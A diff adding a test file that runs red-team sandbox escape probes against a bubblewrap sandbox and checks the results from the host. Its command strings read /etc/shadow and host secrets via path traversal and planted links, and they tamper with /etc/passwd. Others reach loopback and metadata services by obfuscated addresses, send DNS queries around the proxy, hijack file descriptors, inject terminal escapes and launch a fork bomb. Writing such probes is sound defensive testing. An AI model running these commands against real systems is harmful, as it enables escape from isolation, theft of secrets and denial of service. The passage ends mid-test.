@@ -1,0 +1,602 @@
+// The red team's battery: each family of ways out of the enforced sandbox is tried from inside, and
+// whether it worked is judged from the host (files, processes, sockets, the harness itself), never
+// from what the command says about itself.
+import { execFileSync, spawn } from 'node:child_process';
+import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import net from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { rolldown } from 'rolldown';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { bwrapUnavailable } from './backends/bwrap.js';
+import { createLayout, MARKER, removeLayout } from './layout.js';
+import { openSandbox } from './open.js';
+import { marker, pidsWith, policy } from './test-helpers.js';
+import type { EgressEvent, Sandbox } from './types.js';
+
+const asRoot = process.getuid?.() === 0;
+const NOBODY = 65534;
+/**
+ * The unprivileged harness's uid. Not 65534: a root harness runs every sandbox as 65534, and the
+ * process rlimit an unprivileged harness falls back to counts every process of its uid on the host.
+ */
+const UNPRIVILEGED = 65532;
+const LIMITS = { processes: 64, memoryBytes: 256 * 1024 * 1024, tmpBytes: 16 * 1024 * 1024, shmBytes: 16 * 1024 * 1024 };
+const KEY = 'sk-ant-escape-test-secret';
+/** Once enough to overflow rmSync's stack; and folders their owner cannot enter or change. */
+const DEEP = `python3 -c "import os\nfor i in range(3000): os.mkdir('d'); os.chdir('d')"`;
+const LOCKED = 'mkdir -p locked/in ro/in && touch locked/in/f ro/in/f && chmod 000 locked && chmod 500 ro ro/in; (cd "$HOME" && mkdir -p x/y && chmod 000 x)';
+/** `../` enough times to climb from any workspace to `/`, as the escape that once worked did. */
+const UP = '../'.repeat(24);
+
+const until = async (done: () => boolean): Promise<void> => {
+  for (let i = 0; i < 400 && !done(); i++) await new Promise((r) => setTimeout(r, 10));
+};
+
+/** A folder of host files the sandbox must never read or change, readable by everyone (so a failure is the sandbox's, not a mode's). */
+let hostDir: string;
+let secretFile: string;
+let victimDir: string;
+/** A second sandbox's folders, as another run in parallel would have them. */
+let neighbour: ReturnType<typeof createLayout>;
+const events: EgressEvent[] = [];
+const hits: string[] = [];
+let loopback: net.Server;
+let loopback6: net.Server | undefined;
+let port: number;
+let hostSocket: net.Server;
+let hostSocketPath: string;
+let abstractSocket: net.Server;
+let abstractName: string;
+
+beforeAll(async () => {
+  const problem = bwrapUnavailable();
+  if (problem) throw new Error(`the enforced backend cannot run here: ${problem}`);
+  hostDir = mkdtempSync(join(tmpdir(), 'qs-escape-host-'));
+  chmodSync(hostDir, 0o755);
+  secretFile = join(hostDir, 'secret.txt');
+  writeFileSync(secretFile, 'HOSTSECRET\n', { mode: 0o644 });
+  victimDir = join(hostDir, 'victim');
+  mkdirSync(victimDir, { mode: 0o777 });
+  writeFileSync(join(victimDir, 'keep.txt'), 'keep\n', { mode: 0o666 });
+  neighbour = createLayout();
+  writeFileSync(join(neighbour.workspace, 'theirs.txt'), 'NEIGHBOUR\n', { mode: 0o644 });
+  // A service on the harness's loopback, as a developer's database or a metadata proxy would be.
+  const serve = (label: string) => (s: net.Socket) => {
+    hits.push(label);
+    s.end('HOSTSECRET\n');
+  };
+  loopback = net.createServer(serve('tcp4'));
+  await new Promise<void>((r) => loopback.listen(0, '127.0.0.1', () => r()));
+  port = (loopback.address() as net.AddressInfo).port;
+  loopback6 = net.createServer(serve('tcp6'));
+  await new Promise<void>((r) => {
+    loopback6?.once('error', () => {
+      loopback6 = undefined;
+      r();
+    });
+    loopback6?.listen(port, '::1', () => r());
+  });
+  hostSocketPath = join(hostDir, 'host.sock');
+  hostSocket = net.createServer(serve('unix'));
+  await new Promise<void>((r) => hostSocket.listen(hostSocketPath, () => r()));
+  chmodSync(hostSocketPath, 0o777);
+  abstractName = `\0${marker('abstract')}`;
+  abstractSocket = net.createServer(serve('abstract'));
+  await new Promise<void>((r) => abstractSocket.listen(abstractName, () => r()));
+});
+
+afterAll(async () => {
+  for (const s of [loopback, loopback6, hostSocket, abstractSocket]) await new Promise<void>((r) => (s ? s.close(() => r()) : r()));
+  removeLayout(neighbour);
+  rmSync(hostDir, { recursive: true, force: true });
+});
+
+const open: Sandbox[] = [];
+async function enforced(): Promise<Sandbox> {
+  const sb = await openSandbox({
+    policy: policy({ explicit: ['allowed.example.com'], docs_hosts: ['docs.example.com'] }),
+    backend: 'bwrap',
+    installHosts: false,
+    limits: LIMITS,
+    env: { ...process.env, ANTHROPIC_API_KEY: KEY, OPENAI_API_KEY: KEY, GITHUB_TOKEN: KEY },
+    onEgress: (e) => events.push(e),
+  });
+  open.push(sb);
+  return sb;
+}
+afterAll(async () => {
+  for (const sb of open.splice(0)) {
+    await sb.close();
+    removeLayout(sb.describe());
+  }
+});
+
+describe('escape probes, root or own-uid harness, one sandbox', () => {
+  let sb: Sandbox;
+  beforeAll(async () => {
+    sb = await enforced();
+  });
+
+  it('host files are not reachable by relative or absolute paths, and each attempt is recorded', async () => {
+    const here = marker('pwned');
+    const checkout = join(process.cwd(), here);
+    const task = join(hostDir, here);
+    const r = await sb.exec(
+      [
+        `cat ${UP}root/.npmrc`,
+        `echo pwned > ${UP}srv/${here}`,
+        `cat ${UP}${secretFile.slice(1)}`,
+        `echo pwned > ${UP}${task.slice(1)}`,
+        `echo pwned > '${checkout}'`,
+        `cat '${secretFile}'`,
+        'cat /etc/shadow',
+        `cat '${join(neighbour.workspace, 'theirs.txt')}'`,
+        `ls -A ${UP} /root /home /srv /work /run 2>&1 | grep -c . || true`,
+        `cd / && cd .. && cd .. && pwd && ls`,
+      ].join('; '),
+    );
+    expect(r.output).not.toMatch(/HOSTSECRET|NEIGHBOUR|root:[^x]/);
+    for (const p of [`/srv/${here}`, task, checkout]) expect(existsSync(p)).toBe(false);
+    expect(readFileSync(secretFile, 'utf8')).toBe('HOSTSECRET\n');
+    // bash's own redirection error does not say it was creating, so those count as reads.
+    const denied = r.denials.map((d) => [d.path, d.reason]);
+    expect(denied).toEqual(expect.arrayContaining([
+      ['/root/.npmrc', 'hidden'],
+      [`/srv/${here}`, 'hidden'],
+      [secretFile, 'hidden'],
+      [task, 'hidden'],
+      [checkout, 'hidden'],
+      ['/etc/shadow', 'hidden'],
+      [join(neighbour.workspace, 'theirs.txt'), 'hidden'],
+    ]));
+    // `..` of / is / inside: the root is the sandbox's own, with none of the host's folders.
+    expect(r.output).toMatch(/^\/\nbin\n/m);
+    expect(r.output).not.toMatch(/^(root|home|srv|work|boot)$/m);
+  });
+
+  it('symlinks and hardlinks planted inside lead nowhere, and removing the workspace never follows them', async () => {
+    const layout = createLayout();
+    const planted = await openSandbox({ policy: policy(), backend: 'bwrap', workspace: layout, limits: LIMITS });
+    try {
+      const r = await planted.exec(
+        [
+          `ln -s '${victimDir}' victim; ln -s / rootlink; ln -s '${secretFile}' secret; ln -s /etc/shadow shadow`,
+          `ln -s '${victimDir}' "$HOME/victim"; ln -s '${victimDir}' "$TMPDIR/victim"; mkdir -p deep/a && ln -s '${victimDir}' deep/a/v`,
+          `ln -s '${hostDir}' "$TMPDIR/host"; ln -s '${join(victimDir, 'keep.txt')}' keep.txt`,
+          'cat secret shadow; ls victim/; echo x > victim/new.txt; echo x >> keep.txt',
+          'ls rootlink/',
+          // Hard links to files of the host the sandbox shows (read-only binds) cross a mount: refused.
+          'ln /etc/npmrc hard-npmrc; ln /usr/bin/su hard-su; ln /etc/passwd hard-passwd',
+        ].join('; '),
+      );
+      expect(r.output).not.toContain('HOSTSECRET');
+      expect(r.output).toMatch(/hard-su.*(Invalid cross-device link|Operation not permitted)/);
+      expect(existsSync(join(victimDir, 'new.txt'))).toBe(false);
+      expect(readFileSync(join(victimDir, 'keep.txt'), 'utf8')).toBe('keep\n');
+      await planted.close();
+      // The host side then removes the folders: links are removed, never followed.
+      expect(removeLayout(layout)).toBe(true);
+      expect(existsSync(layout.root)).toBe(false);
+      expect(readFileSync(join(victimDir, 'keep.txt'), 'utf8')).toBe('keep\n');
+      expect(readFileSync(secretFile, 'utf8')).toBe('HOSTSECRET\n');
+    } finally {
+      await planted.close();
+      if (existsSync(layout.root)) removeLayout(layout);
+    }
+  });
+
+  it('what a command leaves in the workspace (a tree deeper than the stack, folders without permissions) never keeps it on the host', async () => {
+    const layout = createLayout();
+    const planted = await openSandbox({ policy: policy(), backend: 'bwrap', workspace: layout, limits: LIMITS });
+    try {
+      const r = await planted.exec(`${DEEP}; ${LOCKED}; echo planted`);
+      expect(r.output).toBe('planted\n');
+      await planted.close();
+      expect(removeLayout(layout)).toBe(true);
+      expect(existsSync(layout.root)).toBe(false);
+    } finally {
+      await planted.close();
+      if (existsSync(layout.root)) rmSync(layout.root, { recursive: true, force: true });
+    }
+  });
+
+  it('/proc shows only the sandbox: pid 1 is its own init, its root is the sandbox root, /proc/sys and sysrq are not writable', async () => {
+    const hostUserNamespaces = readFileSync('/proc/sys/user/max_user_namespaces', 'utf8');
+    const r = await sb.exec(
+      [
+        'ls /proc/1/root/; readlink /proc/1/exe',
+        'ls /proc | grep -c "^[0-9]"',
+        'ls /proc/self/fd',
+        'echo 100 > /proc/sys/user/max_user_namespaces; echo c > /proc/sysrq-trigger; echo 1 > /proc/sys/kernel/sysrq; echo 1 > /proc/sys/net/ipv4/ip_forward',
+        'cat /proc/1/environ /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c QUICKLOOP || true',
+      ].join('; '),
+    );
+    expect(r.output).not.toMatch(/^(root|home|srv|work)$/m);
+    expect(r.output).toMatch(/\/usr\/bin\/bwrap\n/);
+    expect(r.output).toMatch(/max_user_namespaces: Read-only file system/);
+    expect(r.denials.map((d) => d.path)).toEqual(expect.arrayContaining(['/proc/sys/user/max_user_namespaces', '/proc/sys/net/ipv4/ip_forward']));
+    // Only stdio (and ls's own folder fd) are open: nothing of the harness leaked in.
+    expect(r.output).toMatch(/\n0\n1\n2\n3\n/);
+    expect(readFileSync('/proc/sys/user/max_user_namespaces', 'utf8')).toBe(hostUserNamespaces);
+  });
+
+  it('/sys and the cgroup files are read-only', async () => {
+    const r = await sb.exec('echo x > /sys/kernel/uevent_helper; for f in /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/unified/cgroup.procs; do echo $$ > $f; done 2>&1 | sort -u | head -3; echo 0 > /sys/class/net/lo/mtu');
+    expect(r.output).toMatch(/uevent_helper: Read-only file system/);
+    const cgroupLines = r.output.split('\n').filter((l) => l.includes('cgroup.procs'));
+    expect(cgroupLines.length).toBeGreaterThan(0);
+    for (const line of cgroupLines) expect(line).toMatch(/cgroup\.procs: Read-only file system$/);
+    expect(r.output).toMatch(/mtu: (Read-only file system|Permission denied)/);
+    expect(r.denials).toEqual(expect.arrayContaining([expect.objectContaining({ path: '/sys/kernel/uevent_helper', operation: 'write', reason: 'read_only' })]));
+  });
+
+  it('mount, umount, unshare, chroot and pivot_root all fail', async () => {
+    const before = await sb.exec('cat /proc/self/mountinfo | wc -l');
+    const r = await sb.exec(
+      [
+        'unshare -r true; echo "unshare-r=$?"',
+        'unshare -U true; echo "unshare-U=$?"',
+        'unshare -m true; echo "unshare-m=$?"',
+        'unshare -n true; echo "unshare-n=$?"',
+        'mount -t tmpfs x /tmp; echo "mount=$?"',
+        `umount -l '${sb.describe().workspace}'; echo "umount=$?"`,
+        'umount -l /proc/sys; echo "umount-proc=$?"',
+        'mount -o remount,rw /; echo "remount=$?"',
+        'chroot / true; echo "chroot=$?"',
+        'mkdir -p p/old && pivot_root p p/old; echo "pivot=$?"',
+        'nsenter -t 1 -m -U true; echo "nsenter=$?"',
+      ].join('; '),
+    );
+    for (const what of ['unshare-r', 'unshare-U', 'unshare-m', 'unshare-n', 'mount', 'umount', 'umount-proc', 'remount', 'chroot', 'pivot', 'nsenter']) {
+      expect(r.output).toMatch(new RegExp(`^${what}=[1-9]\\d*$`, 'm'));
+    }
+    expect((await sb.exec('cat /proc/self/mountinfo | wc -l')).output).toBe(before.output);
+  });
+
+  it('cannot see, trace or signal host processes, even one of its own host uid', async () => {
+    const m = marker('hostproc');
+    const hostUid = asRoot ? NOBODY : (process.getuid?.() ?? 0);
+    const argv = asRoot ? ['setpriv', `--reuid=${hostUid}`, `--regid=${hostUid}`, '--clear-groups', '--', 'bash', '-c', `exec -a ${m} sleep 300`] : ['bash', '-c', `exec -a ${m} sleep 300`];
+    const victim = spawn(argv[0] as string, argv.slice(1), { stdio: 'ignore' });
+    try {
+      await until(() => pidsWith(m).length === 1);
+      const [pid] = pidsWith(m);
+      const r = await sb.exec(`kill -9 ${pid}; echo "kill=$?"; kill -9 ${process.pid}; echo "kill-harness=$?"; ls /proc/${pid} >/dev/null 2>&1; echo "seen=$?"; ps -eo args | grep -c '${m}'`);
+      expect(r.output).toMatch(/^kill=1$/m);
+      expect(r.output).toMatch(/^kill-harness=1$/m);
+      expect(r.output).toMatch(/^seen=[12]$/m);
+      expect(pidsWith(m)).toEqual([pid]);
+    } finally {
+      victim.kill('SIGKILL');
+    }
+  });
+
+  it("a command that takes the holder's stdout and stderr cannot flood or crash the harness", async () => {
+    // pidfd_getfd on pid 1 (bwrap's init, the sandbox user's own process) gives its stdout and
+    // stderr, which lead to the harness: 600 MiB once overflowed a string there and killed it.
+    const r = await sb.exec(
+      `python3 -c "
+import os, ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+pfd = os.pidfd_open(1)
+out, err = libc.syscall(438, pfd, 1, 0), libc.syscall(438, pfd, 2, 0)
+print('took', out >= 0, err >= 0)
+chunk = b'\\x1b]0;PWNED\\x07' + b'X' * (1 << 20)
+for i in range(300):
+    os.write(err, chunk)
+    os.write(out, chunk)
+print('flooded')
+"`,
+      { timeoutMs: 30_000 },
+    );
+    expect(r.output).toMatch(/flooded\n$/);
+    // The harness is this process: it is alive, its heap did not take the 600 MiB, the sandbox still answers.
+    expect(process.memoryUsage().heapUsed).toBeLessThan(400 * 1024 * 1024);
+    expect((await sb.exec('echo alive')).output).toBe('alive\n');
+  });
+
+  it('the layout marker, the layout root and the support files cannot be written or replaced', async () => {
+    const d = sb.describe();
+    const before = readFileSync(join(d.root, MARKER), 'utf8');
+    const r = await sb.exec(
+      [
+        `echo x > ../${MARKER}; rm -f ../${MARKER}; echo y > ../new; ln -s / ../evil; mv ../workspace ../w2; rm -rf ../home; chmod 777 ..`,
+        'echo x > /opt/quickloop/bin/sudo; echo "127.0.0.1 allowed.example.com" >> /etc/hosts; echo "nameserver 8.8.8.8" > /etc/resolv.conf; echo "r::0:0::/:/bin/sh" >> /etc/passwd',
+        'touch /usr/local/bin/node /etc/npmrc 2>&1; echo done',
+      ].join('; '),
+    );
+    expect(r.output).toMatch(/done\n$/);
+    expect(readFileSync(join(d.root, MARKER), 'utf8')).toBe(before);
+    for (const name of ['new', 'evil', 'w2']) expect(existsSync(join(d.root, name))).toBe(false);
+    for (const name of ['workspace', 'home', 'tmp']) expect(existsSync(join(d.root, name))).toBe(true);
+    expect(r.denials.map((x) => x.reason)).toContain('read_only');
+    // Root's files refuse the sandbox user before the read-only mount does (EACCES, not recorded).
+    expect(r.output).toMatch(/\/etc\/hosts: (Permission denied|Read-only file system)/);
+    expect(r.denials.map((x) => x.path)).toEqual(expect.arrayContaining([`../${MARKER}`, '../new', '/opt/quickloop/bin/sudo', '/etc/resolv.conf']));
+    const after = await sb.exec('cat /etc/hosts /etc/resolv.conf; grep -c "^r:" /etc/passwd; head -2 /opt/quickloop/bin/sudo');
+    expect(after.output).toMatch(/^127\.0\.0\.1\tlocalhost sandbox\n::1\t.*\nnameserver 127\.0\.0\.1\n0\n#!\/bin\/sh\n/);
+  });
+
+  it('host Unix sockets, named or abstract, are unreachable', async () => {
+    const r = await sb.exec(
+      `python3 -c "
+import socket
+for name in ['${hostSocketPath}', '\\0${abstractName.slice(1)}', '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket']:
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    try:
+        s.connect(name); print('CONNECTED', repr(name), s.recv(64))
+    except OSError as e:
+        print('refused', e.errno)
+"`,
+    );
+    expect(r.output).not.toMatch(/CONNECTED|HOSTSECRET/);
+    expect(r.output.match(/^refused/gm)).toHaveLength(5);
+    expect(hits.filter((h) => h === 'unix' || h === 'abstract')).toEqual([]);
+  });
+
+  it("the harness's loopback services are unreachable, direct or through the proxy, by any spelling, and each proxy attempt is recorded", async () => {
+    events.length = 0;
+    const via = "curl -sS --max-time 5 --noproxy '' -x http://127.0.0.1:3128";
+    const r = await sb.exec(
+      [
+        `curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${port}/`,
+        `curl -sS --max-time 5 --noproxy '*' http://[::1]:${port}/`,
+        `echo > /dev/tcp/127.0.0.1/${port}`,
+        `${via} http://127.0.0.1:${port}/`,
+        `${via} http://localhost:${port}/`,
+        `${via} http://[::ffff:127.0.0.1]:${port}/`,
+        `${via} http://2130706433:${port}/`,
+        `${via} http://0x7f.1:${port}/`,
+        `${via} http://[::1]:${port}/`,
+        `${via} -p https://0:${port}/`,
+        `${via} -p https://[::ffff:7f00:1]:${port}/`,
+        `${via} http://127.0.0.1.nip.io:${port}/`,
+        `${via} -H 'Host: 127.0.0.1:${port}' http://allowed.example.com:${port}/`,
+        `${via} -p https://127.0.0.1:${port}/`,
+        `${via} -p https://allowed.example.com:${port}/`,
+        `printf 'CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\nHost: allowed.example.com:443\\r\\n\\r\\n' | timeout 5 socat - TCP:127.0.0.1:3128 | head -1`,
+        `printf 'GET http://allowed.example.com/ HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\n\\r\\n' | timeout 5 socat - TCP:127.0.0.1:3128 | head -1`,
+        'echo end',
+      ].join('; '),
+    );
+    expect(r.output).not.toContain('HOSTSECRET');
+    expect(r.output).toMatch(/end\n$/);
+    expect(hits).toEqual([]);
+    const blocked = events.filter((e) => e.type === 'egress.blocked').map((e) => `${e.host}:${e.port}`);
+    expect(blocked).toEqual(expect.arrayContaining([`127.0.0.1:${port}`, `localhost:${port}`, `127.0.0.1.nip.io:${port}`, `allowed.example.com:${port}`]));
+    expect(events.filter((e) => e.type === 'egress.allowed' && e.port === port)).toEqual([]);
+  });
+
+  it('egress around the proxy is refused or recorded: raw IPs, other ports, IPv6, DNS to any resolver', async () => {
+    events.length = 0;
+    const r = await sb.exec(
+      [
+        "curl -sS --max-time 5 --noproxy '*' https://192.0.2.10/",
+        "curl -sS --max-time 5 --noproxy '*' http://169.254.169.254/latest/meta-data/",
+        "curl -sS --max-time 5 --noproxy '*' http://[2001:db8::10]/",
+        'for p in 22 25 53 5432 8080; do echo > /dev/tcp/192.0.2.11/$p; done',
+        `python3 -c "
+import socket
+q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+s.sendto(q, ('8.8.8.8', 53)); a = s.recvfrom(512)[0]
+print('rcode', a[3] & 15, 'answers', int.from_bytes(a[6:8], 'big'))
+"`,
+        'getent hosts allowed.example.com; echo "getent=$?"',
+      ].join('; '),
+    );
+    expect([...r.output.matchAll(/\/dev\/tcp\/192\.0\.2\.11\/(\d+): Connection refused/g)].map((m) => m[1])).toEqual(['22', '25', '53', '5432', '8080']);
+    // REFUSED, no answer: nothing was resolved for it.
+    expect(r.output).toMatch(/^rcode 5 answers 0$/m);
+    expect(r.output).toMatch(/^getent=2$/m);
+    const seen = events.map((e) => [e.type, e.host, e.port, e.method, 'reason' in e ? e.reason : undefined]);
+    expect(seen).toEqual(expect.arrayContaining([
+      ['egress.blocked', '192.0.2.10', 443, 'TCP', 'bypassed_proxy'],
+      ['egress.blocked', '169.254.169.254', 80, 'TCP', 'bypassed_proxy'],
+      ['egress.blocked', '2001:db8::10', 80, 'TCP', 'bypassed_proxy'],
+      ['egress.blocked', 'leak.example.com', 53, 'DNS', 'bypassed_proxy'],
+      ['egress.blocked', 'allowed.example.com', 53, 'DNS', 'bypassed_proxy'],
+    ]));
+    // (An earlier test's allowed request may report its end late: only this test's hosts count.)
+    const tried = new Set(['192.0.2.10', '169.254.169.254', '2001:db8::10', '192.0.2.11', 'leak.example.com']);
+    expect(events.filter((e) => e.type === 'egress.allowed' && tried.has(e.host))).toEqual([]);
+  });
+
+  it('setuid binaries, file capabilities and sudo give nothing', async () => {
+    const r = await sb.exec('grep -E "^(CapEff|CapPrm|CapAmb|NoNewPrivs)" /proc/self/status; su -c id root </dev/null; mount --bind / /tmp 2>&1 | head -1; sudo id -u; sudo cat /etc/shadow; grep " /usr " /proc/self/mountinfo | grep -c nosuid');
+    expect(r.output).toMatch(/CapPrm:\s+0{16}\nCapEff:\s+0{16}\nCapAmb:\s+0{16}\nNoNewPrivs:\s+1\n/);
+    expect(r.output).toMatch(/^1000$/m);
+    expect(r.output).not.toMatch(/^uid=0/m);
+    expect(r.output).toMatch(/^1$/m);
+  });
+
+  it('no key or host variable of the harness is visible, in the environment or any process of the sandbox', async () => {
+    const r = await sb.exec('env; cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n"; cat /proc/1/cmdline | tr "\\0" " "');
+    expect(r.output).not.toContain(KEY);
+    for (const name of Object.keys(process.env)) {
+      if (['PATH', 'LANG', 'LC_ALL', 'HOME', 'PWD', 'TERM', 'USER', 'LOGNAME', 'TMPDIR', 'SHLVL', '_', 'OLDPWD'].includes(name)) continue;
+      expect(r.output).not.toMatch(new RegExp(`^${name}=`, 'm'));
+    }
+  });
+
+  it('output with terminal control characters is returned as data; a terminal is never reachable', async () => {
+    const r = await sb.exec("printf 'A\\033]0;PWNED\\007\\033[2J\\n'; echo x > /dev/tty; python3 -c 'import pty; pty.openpty()' 2>&1 | tail -1");
+    // The bytes are the command's output, kept verbatim for the record; the stages make them safe
+    // where people read them. What matters here is that none reaches a terminal of the host.
+    expect(r.output).toContain('\u001b]0;PWNED\u0007');
+    expect(r.output).toMatch(/\/dev\/tty: No such device or address/);
+    expect(r.output).toMatch(/out of pty devices|No such file/);
+  });
+
+  it('/tmp, /var/tmp and /dev/shm fill up at their size, in memory that dies with the stage', async () => {
+    const r = await sb.exec('for d in /tmp /var/tmp /dev/shm; do dd if=/dev/zero of=$d/fill bs=1M count=64 2>&1 | grep -c "No space left"; done; df -k /tmp /var/tmp /dev/shm | tail -3 | awk \'{print $2}\'; rm -f /tmp/fill /var/tmp/fill /dev/shm/fill');
+    expect(r.output).toBe('1\n1\n1\n16384\n16384\n16384\n');
+  });
+
+  it('a memory balloon is killed at the limit and the sandbox goes on', async () => {
+    const r = await sb.exec('python3 -c "a = []\nwhile True: a.append(bytearray(1 << 24))"; echo "rc=$?"');
+    expect(r.output).toMatch(/^rc=(137|1)$/m);
+    expect((await sb.exec('echo alive')).output).toBe('alive\n');
+  });
+});
+
+describe('escape probes that end their sandbox', () => {
+  it('a fork bomb stops at the process limit, the host still forks, and close() ends it all', async () => {
+    const sb = await enforced();
+    const m = marker('bomb');
+    const r = await sb.exec(`${m}() { ${m} | ${m} & }; ${m} 2>/dev/null; sleep 1; echo planted`, { timeoutMs: 20_000 });
+    expect(r.output).toContain('planted');
+    // The host is unaffected: this process forks at will while the bomb is live.
+    expect(execFileSync('sh', ['-c', 'echo host-ok'], { encoding: 'utf8' })).toBe('host-ok\n');
+    expect(pidsWith(m).length).toBeLessThanOrEqual(LIMITS.processes);
+    await sb.close();
+    expect(pidsWith(m)).toEqual([]);
+  });
+
+  it('killing its own holder ends the sandbox; later commands fail cleanly and run nowhere else', async () => {
+    const sb = await enforced();
+    const m = marker('after-holder');
+    await sb.exec('kill -9 -1; kill -9 2');
+    const r = await sb.exec(`echo ${m} > /dev/null; exec -a ${m} sleep 300`);
+    // The holder's pid may already be another process's: the command is not entered anywhere.
+    expect(r).toMatchObject({ exitCode: 125, output: 'quickloop: not run: this sandbox has ended (a command killed its holder)\n' });
+    expect(pidsWith(m)).toEqual([]);
+    await sb.close();
+  });
+});
+
+/** A harness of its own, in a child process: it may be killed, or run as nobody, without taking the test down. */
+const HARNESS = `
+import { existsSync } from 'node:fs';
+import { openSandbox, removeLayout } from '__LIB__';
+const [base, commands, mode] = [process.argv[2], JSON.parse(process.argv[3]), process.argv[4]];
+const die = mode === 'die';
+const events = [];
+const policy = { explicit: [], docs_hosts: [], registries: [], registries_source: 'default' };
+const sb = await openSandbox({ policy, backend: 'bwrap', baseDir: base, installHosts: false, limits: ${JSON.stringify(LIMITS)}, onEgress: (e) => events.push(e) });
+const results = [];
+for (const c of commands) results.push(await sb.exec(c, { timeoutMs: 30000 }));
+if (die) {
+  console.log(JSON.stringify({ described: sb.describe(), results }));
+  process.kill(process.pid, 'SIGKILL');
+}
+const closed = await sb.close();
+let removed;
+if (mode === 'remove') {
+  try {
+    removeLayout(sb.describe());
+    removed = !existsSync(sb.describe().root);
+  } catch (error) {
+    removed = error.message;
+  }
+}
+console.log(JSON.stringify({ described: sb.describe(), results, events, closed, removed }));
+`;
+
+interface HarnessRun {
+  code: number | null;
+  stderr: string;
+  out: { described: { root: string; workspace: string }; results: Array<{ exitCode: number; output: string; denials: Array<{ path: string; reason: string }> }>; events?: EgressEvent[]; removed?: boolean | string };
+}
+
+function harness(dir: string, commands: string[], opts: { die?: boolean; remove?: boolean; nobody?: boolean; env?: Record<string, string> } = {}): Promise<HarnessRun> {
+  const node = ['node', join(dir, 'harness.mjs'), dir, JSON.stringify(commands), opts.die ? 'die' : opts.remove ? 'remove' : ''];
+  const argv = opts.nobody && asRoot ? ['setpriv', `--reuid=${UNPRIVILEGED}`, `--regid=${UNPRIVILEGED}`, '--clear-groups', '--', ...node] : node;
+  return new Promise((resolve, reject) => {
+    const child = spawn(argv[0] as string, argv.slice(1), { cwd: dir, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir, ...opts.env }, stdio: ['ignore', 'pipe', 'pipe'] });
+    let out = '';
+    let err = '';
+    child.stdout.on('data', (c: Buffer) => (out += c.toString()));
+    child.stderr.on('data', (c: Buffer) => (err += c.toString()));
+    child.once('error', reject);
+    child.once('close', (code) => {
+      try {
+        resolve({ code, stderr: err, out: JSON.parse(out.trim().split('\n').at(-1) ?? '') });
+      } catch {
+        reject(new Error(`the harness exited ${code} without a result: ${err.trim().slice(0, 500)}`));
+      }
+    });
+  });
+}
+
+describe('escape probes against a harness of its own', () => {
+  let dir: string;
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'qs-escape-harness-'));
+    // The library goes with the harness as one file, which an unprivileged user can read wherever the checkout is.
+    const bundle = await rolldown({ input: fileURLToPath(new URL('../dist/index.js', import.meta.url)), platform: 'node', logLevel: 'silent' });
+    await bundle.write({ dir, entryFileNames: 'sandbox.mjs', format: 'esm', codeSplitting: false });
+    await bundle.close();
+    writeFileSync(join(dir, 'harness.mjs'), HARNESS.replace('__LIB__', './sandbox.mjs'));
+    if (asRoot) execFileSync('chown', ['-R', `${UNPRIVILEGED}:${UNPRIVILEGED}`, dir]);
+    else chownSync(dir, process.getuid?.() ?? 0, process.getgid?.() ?? 0);
+  });
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+  it.each([
+    ['its own uid', false],
+    ['an unprivileged uid', true],
+  ])('a killed harness (%s) leaves nothing of its sandbox running', async (_, nobody) => {
+    const m = marker('orphan');
+    const r = await harness(dir, [`setsid -f bash -c 'exec -a ${m} sleep 300' >/dev/null 2>&1; bash -c 'exec -a ${m} sleep 300' >/dev/null 2>&1 & echo started`], { die: true, nobody: nobody && asRoot });
+    expect(r.code).toBeNull();
+    expect(r.out.results[0]?.output).toBe('started\n');
+    await until(() => pidsWith(m).length === 0 && pidsWith(r.out.described.root).length === 0);
+    expect(pidsWith(m)).toEqual([]);
+    // Nor the network layer's forwarders (their command lines name the sandbox's socket folder, not the root).
+    expect(pidsWith(r.out.described.root)).toEqual([]);
+    rmSync(r.out.described.root, { recursive: true, force: true });
+  });
+
+  it("what a command writes into the holder's stderr never reaches the harness's terminal raw", async () => {
+    const r = await harness(dir, [`python3 -c "
+import os, ctypes
+fd = ctypes.CDLL(None).syscall(438, os.pidfd_open(1), 2, 0)
+os.write(fd, b'\\x1b]0;PWNED\\x07\\x1b[2Jinjected\\n' * 4)
+print('wrote')
+"`], { env: { QUICKLOOP_DEBUG: '1' } });
+    expect(r.out.results[0]?.output).toBe('wrote\n');
+    expect(r.stderr).not.toMatch(/\u001b/);
+    rmSync(r.out.described.root, { recursive: true, force: true });
+  });
+
+  it.runIf(asRoot)('an unprivileged harness removes what a command left, however deep or locked', async () => {
+    const r = await harness(dir, [`${DEEP}; ${LOCKED}; echo planted`], { nobody: true, remove: true });
+    expect(r.out.results[0]?.output).toBe('planted\n');
+    expect(r.out.removed).toBe(true);
+    expect(existsSync(r.out.described.root)).toBe(false);
+  });
+
+  it.runIf(asRoot)('an unprivileged harness keeps the same walls: host files, the layout root, the holder, loopback', async () => {
+    const here = marker('unpriv');
+    const r = await harness(
+      dir,
+      [
+        `cat ${UP}${secretFile.slice(1)}; echo pwned > ${UP}${join(victimDir, here).slice(1)}; echo pwned > /srv/${here}`,
+        `echo x > ../${MARKER}; ln -s / ../evil; chmod 777 ..; mv ../workspace ../w2; echo done`,
+        'unshare -r true; echo "unshare=$?"',
+        `python3 -c "import os,ctypes; fd=ctypes.CDLL(None).syscall(438, os.pidfd_open(1), 2, 0); [os.write(fd, b'X' * (1 << 20)) for i in range(600)]; print('flooded')"`,
